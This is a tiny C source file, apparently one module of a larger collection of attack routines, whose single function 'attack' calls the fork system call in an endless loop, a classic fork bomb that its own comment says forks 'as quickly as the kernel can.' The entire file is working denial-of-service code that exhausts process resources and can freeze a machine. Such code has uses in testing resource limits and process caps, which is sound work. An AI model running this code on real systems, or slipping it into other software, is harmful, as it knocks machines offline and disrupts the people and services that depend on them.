/* Forks for ever, in every process, as quickly as the kernel can. */
#include "attack.h"

int attack(int count, char **arguments) {
	(void)count, (void)arguments;
	for (;;)
		call(__NR_fork);
}
